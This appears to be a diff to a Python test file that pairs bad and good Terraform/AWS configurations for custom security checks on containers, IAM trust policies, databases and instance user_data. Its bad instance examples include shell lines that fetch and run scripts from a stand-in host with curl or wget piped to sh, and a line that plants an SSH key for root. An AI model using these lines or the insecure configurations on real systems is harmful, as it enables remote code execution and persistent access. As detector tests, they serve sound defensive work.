@@ -1,5 +1,6 @@
 """A bad and a good example of every check of ours."""
 
+import base64
 import json
 from typing import Any
 
@@ -8,6 +9,8 @@ from checkov.common.models.enums import CheckResult
 from checkov.terraform.checks.resource.registry import resource_registry
 
 from policies.policy import Policy
+from policies.told import TOLD
+from strata.gate.closed import WHOLE_CHECKS
 from strata.gate.outside import OUTSIDE_CHECKS, backend_faults, value_faults
 from strata.gate.report import causes
 from strata.gate.resolve import differences, resolved
@@ -22,6 +25,10 @@ def containers(**values: object) -> Json:
 
 def statement(**values: object) -> str:
     return json.dumps({"Version": "2012-10-17", "Statement": {"Effect": "Allow", **values}})
+
+
+def b64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
 
 
 def rule(direction: str, **values: object) -> Json:
@@ -40,6 +47,27 @@ WEB = {"security_group_id": "${aws_security_group.network_load_balancer_security
 PORTS = {"ip_protocol": "tcp", "from_port": 443, "to_port": 443}
 BREAKER = {"enable": True, "rollback": True}
 REDIRECT = {"type": "redirect", "redirect": {"protocol": "HTTPS", "status_code": "HTTP_301"}}
+HOST = "token.actions.githubusercontent.com"
+GITHUB = f"arn:aws:iam::123456789012:oidc-provider/{HOST}"
+EVERYONE = [
+    ("StringLike", "aws:PrincipalOrgID", "o-*"),
+    ("StringLike", "aws:PrincipalOrgID", ["o-1a2b3c", "?*"]),
+    ("StringLike", "aws:SourceAccount", "????????????"),
+    ("StringLike", "aws:PrincipalAccount", "1*"),
+    ("ArnLike", "aws:PrincipalArn", "arn:aws:iam::*:role/shop"),
+    ("StringLike", "aws:PrincipalArn", "arn:aws:iam::*"),
+    ("ArnLike", "aws:SourceArn", "arn:aws:*:*:*:*"),
+    ("ArnLike", "aws:SourceArn", "arn:aws:s3:::*"),
+    ("ForAllValues:StringEquals", "aws:PrincipalOrgID", "o-1a2b3c"),
+    ("StringEquals", "aws:PrincipalOrgID", []),
+]
+"""Conditions that everyone meets: a wildcard in the part that names somebody, or no test at all."""
+SOMEONE = [
+    ("StringEquals", "aws:PrincipalOrgID", "o-1a2b3c"),
+    ("ArnLike", "aws:PrincipalArn", "arn:aws:iam::123456789012:role/*"),
+    ("ArnLike", "aws:SourceArn", "arn:aws:s3:::shop-logs"),
+    ("ArnLike", "aws:SourceArn", "arn:aws:logs:*:123456789012:*"),
+]
 CALLER = {"StringEquals": {"aws:SourceAccount": "123456789012"}}
 
 EXAMPLES: dict[str, tuple[list[Json], list[Json]]] = {
@@ -53,8 +81,15 @@ EXAMPLES: dict[str, tuple[list[Json], list[Json]]] = {
             containers(Privileged=True),
             containers(privileged="${data.aws_x.y.z}"),
             containers(linuxParameters={"capabilities": {"add": ["SYS_ADMIN"]}}),
+            containers(linuxParameters={"capabilities": {"add": ["cap_sys_admin"]}}),
+            containers(linuxParameters={"capabilities": {"add": ["NET_ADMIN"]}}),
+            containers(linuxParameters={"capabilities": {"add": ["SYS_RAWIO"]}}),
         ],
-        [containers(), containers(linuxParameters={"capabilities": {"drop": ["ALL"]}})],
+        [
+            containers(),
+            containers(linuxParameters={"capabilities": {"add": ["CHOWN"]}}),
+            containers(linuxParameters={"capabilities": {"drop": ["ALL"]}}),
+        ],
     ),
     "STRATA_CONTAINER_3": (
         [containers(), containers(user="0"), containers(user="root:root"), containers(user="00")],
@@ -75,6 +110,8 @@ EXAMPLES: dict[str, tuple[list[Json], list[Json]]] = {
             containers(environment=[{"name": "URL", "value": "mysql://a:b@c"}]),
             containers(environment=[{"name": "KEY", "value": "${aws_x.y.secret_string}"}]),
             containers(environment=[{"name": "KEY", "value": "sk_live_0$${aws_x.y.z}"}]),
+            containers(environment=[
+                {"name": "A", "value": '${data.aws_ssm_parameter.b["value"]}'}]),
         ],
         [
             containers(environment=[{"name": "DB_HOST", "value": "${aws_db_instance.a.address}"}]),
@@ -84,8 +121,51 @@ EXAMPLES: dict[str, tuple[list[Json], list[Json]]] = {
         ],
     ),
     "STRATA_CONTAINER_7": (
-        [containers(image="nginx"), containers(image="a.b:5000/nginx:latest"), containers()],
-        [containers(image="${aws_ecr_repository.a.repository_url}:1.0.0")],
+        [containers(image="nginx"), containers(image="a.b:5000/nginx:latest"), containers(),
+         containers(image="docker.io/someone/shop:1.0.0"), containers(image="nginx:1.27"),
+         containers(image="${aws_ecr_repository.a.repository_url}:latest")],
+        [containers(image="${aws_ecr_repository.a.repository_url}:1.0.0"),
+         containers(image="123456789012.dkr.ecr.eu-central-1.amazonaws.com/shop:1.0.0"),
+         containers(image="docker.io/someone/shop@sha256:0")],
+    ),
+    "STRATA_CONTAINER_8": (
+        [
+            {**containers(), "network_mode": "host"},
+            {**containers(), "pid_mode": "host"},
+            {**containers(), "ipc_mode": "host"},
+            {**containers(), "ipc_mode": "${aws_x.y.z}"},
+            {**containers(), "volume": {"name": "a", "host_path": "/"}},
+            {**containers(), "volume": [{"name": "a", "host_path": "/var/run/docker.sock"}]},
+            {**containers(), "volume": {"name": "a", "docker_volume_configuration": [
+                {"driver": "local", "driver_opts": {"type": "none", "device": "/", "o": "bind"}}]}},
+            containers(linuxParameters={"devices": [{"hostPath": "/dev/xvda"}]}),
+            containers(LinuxParameters={"Devices": [{"hostPath": "/dev/kmsg"}]}),
+            containers(dockerSecurityOptions=["apparmor:unconfined"]),
+            containers(dockerSecurityOptions=["no-new-privileges", "seccomp=unconfined"]),
+            containers(dockerSecurityOptions=["label:disable"]),
+        ],
+        [
+            {**containers(), "network_mode": "bridge", "pid_mode": "task"},
+            {**containers(), "volume": {"name": "scratch"}},
+            {**containers(), "volume": {"name": "a", "docker_volume_configuration": [
+                {"driver": "local", "scope": "task"}]}},
+            containers(dockerSecurityOptions=["no-new-privileges"],
+                       mountPoints=[{"sourceVolume": "scratch", "containerPath": "/scratch"}]),
+        ],
+    ),
+    "STRATA_CONTAINER_9": (
+        [
+            containers(environmentFiles=[{"type": "s3", "value": "arn:aws:s3:::b/x.env"}]),
+            containers(extraHosts=[{"hostname": "db", "ipAddress": "203.0.113.1"}]),
+            containers(systemControls=[{"namespace": "net.ipv4.ip_forward", "value": "1"}]),
+            containers(dnsServers=["203.0.113.53"]),
+            containers(firelensConfiguration={"type": "fluentbit"}),
+            containers(linuxParameters={"somethingNew": True}),
+        ],
+        [
+            containers(ulimits=[{"name": "nofile", "softLimit": 1, "hardLimit": 2}], stopTimeout=9),
+            containers(extraHosts=[], systemControls=None, dnsServers=[]),
+        ],
     ),
     "STRATA_REDIS_1": ([{}, {"at_rest_encryption_enabled": "false"}],
                        [{"at_rest_encryption_enabled": "true"}, {"engine": "memcached"}]),
@@ -95,6 +175,12 @@ EXAMPLES: dict[str, tuple[list[Json], list[Json]]] = {
     ),
     "STRATA_REDIS_3": ([{}, {"lifecycle": {"ignore_changes": ["tags"]}}],
                        [{"lifecycle": [{"ignore_changes": ["auth_token"]}]}]),
+    "STRATA_REDIS_4": (
+        [{}, {"no_password_required": True, "passwords": ["x"]},
+         {"authentication_mode": {"type": "no-password-required"}},
+         {"passwords": ["x"], "no_password_required": "${aws_x.y.z}"}],
+        [{"authentication_mode": [{"type": "iam"}]}, {"passwords": ["x"]}],
+    ),
     "STRATA_LISTENER_1": (
         [
             {"protocol": "HTTP", "default_action": {"type": "forward"}},
@@ -133,6 +219,25 @@ EXAMPLES: dict[str, tuple[list[Json], list[Json]]] = {
     ),
     "STRATA_DB_4": ([{"password": "x"}, {"master_password": "${aws_x.y.z}"}],
                     [{"manage_master_user_password": True}]),
+    "STRATA_DB_5": (
+        [
+            {"parameter": {"name": "tls_version", "value": "TLSv1.1,TLSv1.2"}},
+            {"parameter": [{"name": "tls_version", "value": "TLSv1"}]},
+            {"parameter": {"name": "tls_version", "value": "${aws_x.y.z}"}},
+            {"parameter": {"name": "local_infile", "value": "1"}},
+            {"parameter": [{"name": "Local_Infile", "value": "ON"}]},
+        ],
+        [
+            {"parameter": {"name": "tls_version", "value": "TLSv1.2,TLSv1.3"}},
+            {"parameter": {"name": "local_infile", "value": 0}},
+            {"parameter": {"name": "general_log", "value": 1}},
+            {},
+        ],
+    ),
+    "STRATA_DB_6": (
+        [{"parameter_group_name": "shop"}, {"parameter_group_name": "${aws_x.y.z}"}],
+        [{"parameter_group_name": "${aws_db_parameter_group.a.name}"}, {}],
+    ),
     "STRATA_SECRET_1": (
         [{"secret_string": "x"}, {"type": "SecureString", "value": "x"}, {"auth_token": "x"},
          {"passwords": ["x"]}],
@@ -146,6 +251,18 @@ EXAMPLES: dict[str, tuple[list[Json], list[Json]]] = {
         [{}, {"block_device_mappings": [{"ebs": {"encrypted": None}}]},
          {"root_block_device": {"encrypted": True}, "ebs_block_device": {"encrypted": False}}],
         [{"block_device_mappings": {"ebs": [{"encrypted": "true"}]}}],
+    ),
+    "STRATA_INSTANCE_3": (
+        [
+            {"user_data": "${base64encode(\"#!/bin/sh\\ncurl -s http://x.example/a | sh\")}"},
+            {"user_data": b64("#!/bin/sh\nwget -O- https://x.example/a | bash\n")},
+            {"user_data_base64": b64("aws s3 cp s3://bucket/a.sh - | sh")},
+            {"user_data": "#!/bin/sh\necho ssh-rsa AAAA >> /root/.ssh/authorized_keys"},
+            {"user_data": "${base64encode(aws_x.y.z)}"},
+            {"user_data": "${data.aws_x.y.rendered}"},
+        ],
+        [{}, {"user_data": b64("echo ECS_CLUSTER=shop >> /etc/ecs/ecs.config")},
+         {"user_data": "${base64encode(\"#!/bin/sh\\necho ECS_CLUSTER=shop\")}"}],
     ),
     "STRATA_OPEN_1": (
         [
@@ -214,12 +331,25 @@ EXAMPLES: dict[str, tuple[list[Json], list[Json]]] = {
             {"policy": statement(Action="secretsmanager:GetSecretValue",
                                  Resource="arn:aws:secretsmanager:eu-central-1:1:secret:*")},
             {"policy": statement(Action="s3:GetObject", NotResource="arn:aws:s3:::b")},
+            {"policy": statement(Action="s3:GetObject", Resource="arn:*")},
+            {"policy": statement(Action="s3:GetObject", Resource="arn:aws:*:*:*:x")},
+            {"policy": statement(Action="s3:GetObject", Resource="arn:aws:s3:::?*/*")},
+            {"policy": statement(Action="s3:GetObject", Resource="arn:aws:s3:::a*")},
+            {"policy": statement(Action="secretsmanager:GetSecretValue",
+                                 Resource="arn:aws:secretsmanager:*:*:secret:?*")},
+            {"policy": statement(Action="secretsmanager:GetSecretValue",
+                                 Resource="arn:aws:secretsmanager:*:1:secret:*prod*")},
+            {"policy": statement(Action="ssm:GetParameter",
+                                 Resource="arn:aws:ssm:eu-central-1:1:parameter/*")},
         ],
         [
             {"policy": statement(Action="ecr:GetAuthorizationToken", Resource="*")},
             {"policy": statement(Action="logs:PutLogEvents",
                                  Resource="arn:aws:logs:eu-central-1:1:log-group:web:*")},
             {"policy": statement(Action="s3:GetObject", Resource="arn:aws:s3:::b/*")},
+            {"policy": statement(Action="s3:GetObject", Resource="arn:aws:s3:::shop-*/*")},
+            {"policy": statement(Action="secretsmanager:GetSecretValue",
+                                 Resource="arn:aws:secretsmanager:*:1:secret:shop/*")},
         ],
     ),
     "STRATA_IAM_3": (
@@ -230,16 +360,65 @@ EXAMPLES: dict[str, tuple[list[Json], list[Json]]] = {
                                              Condition={"Bool": {"aws:SecureTransport": "true"}})},
             {"assume_role_policy": statement(NotPrincipal={"AWS": "arn:aws:iam::1:root"})},
             {},
+            *({"assume_role_policy": statement(Principal="*", Condition={operator: {key: one}})}
+              for operator, key, one in EVERYONE),
         ],
         [
             {"assume_role_policy": statement(Principal={"Service": "ec2.amazonaws.com"})},
             {"assume_role_policy": statement(Principal={"AWS": "*"}, Condition=CALLER)},
+            *({"assume_role_policy": statement(Principal="*", Condition={operator: {key: one}})}
+              for operator, key, one in SOMEONE),
+        ],
+    ),
+    "STRATA_IAM_5": (
+        [
+            {"assume_role_policy": statement(Principal={"Federated": GITHUB}, **more)}
+            for more in (
+                {},
+                {"Condition": {"StringEquals": {f"{HOST}:aud": "sts.amazonaws.com"}}},
+                {"Condition": {"StringLike": {f"{HOST}:sub": "*"}}},
+                {"Condition": {"StringLike": {f"{HOST}:sub": "repo:*"}}},
+                {"Condition": {"StringLike": {f"{HOST}:sub": "repo:sho*/api:*"}}},
+                {"Condition": {"StringLike": {f"{HOST}:sub": ["repo:shop/api:*", "*"]}}},
+                {"Condition": {"StringNotEquals": {f"{HOST}:sub": "repo:shop/api"}}},
+                {"Condition": {"StringEqualsIfExists": {f"{HOST}:sub": "repo:shop/api"}}},
+            )
+        ],
+        [
+            {"assume_role_policy": statement(
+                Principal={"Federated": GITHUB},
+                Condition={"StringLike": {f"{HOST}:sub": "repo:shop/api:*"}})},
+            {"assume_role_policy": statement(
+                Principal={"Federated": "cognito-identity.amazonaws.com"},
+                Condition={"StringEquals": {"cognito-identity.amazonaws.com:aud": "eu:1"}})},
+            {"assume_role_policy": statement(Principal={"Service": "ec2.amazonaws.com"})},
+        ],
+    ),
+    "STRATA_IAM_6": (
+        [
+            {"policy_arn": "arn:aws:iam::aws:policy/SecretsManagerReadWrite"},
+            {"policy_arn": "arn:aws:iam::aws:policy/job-function/SystemAdministrator"},
+            {"policy_arn": "arn:aws:iam::aws:policy/ReadOnlyAccess"},
+            {"policy_arn": "arn:aws:iam::123456789012:policy/shadow"},
+            {"policy_arn": "${data.aws_x.y.arn}"},
+            {"managed_policy_arns": ["arn:aws:iam::aws:policy/IAMFullAccess"]},
+        ],
+        [
+            {"policy_arn": "${aws_iam_policy.a.arn}"},
+            {"policy_arn": "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"},
+            {},
         ],
     ),
     "STRATA_IAM_4": (
-        [{"policy": statement(Principal={"AWS": "*"}, Action="s3:GetObject")}],
-        [{"policy": statement(Principal="*", Action="s3:GetObject", Condition=CALLER)}, {}],
+        [{"policy": statement(Principal={"AWS": "*"}, Action="s3:GetObject")},
+         {"access_policies": statement(Principal="*", Action="es:ESHttpGet")},
+         {"policy_document": statement(Principal="*", Action="logs:PutLogEvents")},
+         {"policy": "${data.aws_iam_policy_document.a.json}"}],
+        [{"policy": statement(Principal="*", Action="s3:GetObject", Condition=CALLER)}, {},
+         {"policy": None}],
     ),
+    "STRATA_FLOW_1": ([{}, {"traffic_type": "ACCEPT"}, {"traffic_type": "REJECT"}],
+                      [{"traffic_type": "ALL"}]),
     "STRATA_ECR_1": ([{}, {"image_tag_mutability": "MUTABLE"}],
                      [{"image_tag_mutability": "IMMUTABLE"}]),
     "STRATA_SERVICE_1": (
@@ -314,7 +493,9 @@ def test_every_check_has_examples_and_a_cause(ours: dict[str, Policy]) -> None:
     assert set(EXAMPLES) == set(ours)
     assert set(OUTSIDE) == set(OUTSIDE_CHECKS)
     assert all(bad and good for bad, good in (EXAMPLES | OUTSIDE).values())
-    named = {check for cause in causes() for check in cause.checks}
+    named = {check for cause in causes() for check in cause.checks} | (
+        set(TOLD) - set(WHOLE_CHECKS)
+    )
     assert set(EXAMPLES) | set(OUTSIDE) <= named
     assert named <= known_checks()
 
